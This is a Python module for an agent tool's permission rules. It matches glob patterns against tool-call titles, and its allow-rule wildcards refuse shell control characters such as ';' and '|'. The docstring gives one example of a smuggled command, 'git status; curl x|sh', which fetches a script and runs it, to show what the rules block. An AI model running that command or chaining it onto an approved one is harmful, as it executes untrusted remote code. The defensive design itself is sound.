"""Permission rules: which requests are answered without asking, and why that is safe.

A rule is ``{pattern, decision, kind}``. ``pattern`` is a glob anchored at both ends over the
tool call's title (``*`` any run, ``?`` one character, ``[...]`` a set). ``kind`` is the ACP
tool kind(s) it applies to; without it, mm's title prefixes say it (``bash: `` is ``execute``,
``client: `` is ``other``), else any kind.

A title is shell text for mm's bash, so an *allow* rule's wildcards never match a shell
control character: ``;`` ``&`` ``|`` ``<`` ``>`` a backtick, ``$(``, a newline or any other
control character. ``bash: git status*`` allows ``bash: git status -s`` but not
``bash: git status; curl x|sh``: the request is asked instead. What the user wrote literally
in the pattern is theirs to allow. A *reject* rule's wildcards match anything (rejecting more
is safe).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

# Never inside what an allow rule's wildcard matched: they chain, pipe, redirect or substitute.
UNSAFE_CHARS = ";&|<>`\x7f" + "".join(chr(c) for c in range(32))
_SAFE_CHAR = "(?:[^" + re.escape(UNSAFE_CHARS) + r"$]|\$(?!\())"
_ANY_CHAR = "."

# mm's titles: "bash: <command>" (kind execute) and "client: <tool>" (kind other).
PREFIX_KINDS = {"bash: ": "execute", "client: ": "other"}


@dataclass(frozen=True)
class Match:
    """The rule that answered: its decision, and its pattern for the user to read."""

    decision: str  # "allow" or "reject"
    pattern: str


@dataclass(frozen=True)
class Skipped:
    """An allow rule whose title matched only by letting a wildcard take shell control text."""

    pattern: str


def glob_regex(pattern: str, safe: bool) -> re.Pattern[str]:
    """``pattern`` as a regex matching the whole title; with ``safe``, wildcards skip UNSAFE."""
    one = _SAFE_CHAR if safe else _ANY_CHAR
    out, i, n = [], 0, len(pattern)
    while i < n:
        c = pattern[i]
        i += 1
        if c == "*":
            out.append(f"(?:{one})*")
        elif c == "?":
            out.append(one)
        elif c == "[":
            end = pattern.find("]", i + 1 if pattern[i : i + 1] in ("!", "]") else i)
            if end < 0:
                out.append(re.escape(c))
                continue
            body = pattern[i:end]
            i = end + 1
            negate = body.startswith("!")
            body = re.escape(body[1:] if negate else body).replace(r"\-", "-")
            cls = f"[{'^' if negate else ''}{body}]"
            # A set never stands in for a newline (or, when safe, any unsafe character).
            guard = re.escape(UNSAFE_CHARS) if safe else "\n"
            out.append(f"(?![{guard}]){cls}")
        else:
            out.append(re.escape(c))
    return re.compile("".join(out), re.DOTALL)


def rule_kinds(rule: dict[str, Any]) -> set[str] | None:
    """The tool kinds a rule applies to; None: any."""
    kind = rule.get("kind")
    if isinstance(kind, str):
        return {kind}
    if isinstance(kind, list | tuple):
        return {str(k) for k in kind}
    pattern = str(rule.get("pattern") or "")
    for prefix, implied in PREFIX_KINDS.items():
        if pattern.startswith(prefix):
            return {implied}
    return None


def first_match(
    rules: Iterable[Any], title: str, kind: str | None
) -> tuple[Match | None, list[Skipped]]:
    """The first rule that answers (title and kind), and the allow rules passed over as unsafe."""
    skipped: list[Skipped] = []
    for rule in rules or ():
        if not isinstance(rule, dict) or not isinstance(rule.get("pattern"), str):
            continue
        pattern = rule["pattern"]
        decision = "allow" if rule.get("decision") == "allow" else "reject"
        kinds = rule_kinds(rule)
        if kinds is not None and (kind or "") not in kinds:
            continue
        if glob_regex(pattern, safe=decision == "allow").fullmatch(title):
            return Match(decision, pattern), skipped
        if decision == "allow" and glob_regex(pattern, safe=False).fullmatch(title):
            skipped.append(Skipped(pattern))
    return None, skipped
